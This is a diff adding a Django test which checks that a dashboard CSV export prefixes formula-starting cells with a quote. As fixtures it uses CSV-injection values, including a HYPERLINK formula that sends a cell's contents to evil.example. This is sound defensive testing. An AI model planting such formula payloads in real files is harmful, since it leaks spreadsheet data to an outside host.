@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv as csvlib
+import io
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -12,6 +14,7 @@ from django.test.utils import CaptureQueriesContext
 
 from tests import factories
 from webapp.cases import services
+from webapp.cases.models import Case
 from webapp.cases.timers import timers_sweep
 from webapp.reports import selectors
 
@@ -72,3 +75,25 @@ def test_dashboard_page_and_csv_for_decision_makers_only(world):
     officer = Client()
     officer.force_login(people["case_officer"])
     assert officer.get("/dashboard/").status_code == 404
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(world):
+    # given: a stage label from a hostile diagram, and other formula starters
+    hrt, people = world
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    cases = list(Case.objects.filter(force=hrt, status="open").order_by("pk"))
+    for case, label in zip(cases, [hyperlink, "@SUM(A1)", "\t=1"], strict=True):
+        Case.objects.filter(pk=case.pk).update(stage=label)
+    dm = Client()
+    dm.force_login(people["decision_maker"])
+
+    # when
+    with time_machine.travel(T0 + timedelta(hours=33), tick=False):
+        csv = dm.get("/dashboard/stages.csv")
+
+    # then: every cell starting with a formula character is prefixed with a quote
+    rows = list(csvlib.reader(io.StringIO(csv.content.decode())))
+    cells = [cell for row in rows for cell in row]
+    assert {"'" + hyperlink, "'@SUM(A1)", "'\t=1"} <= set(cells)
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
+
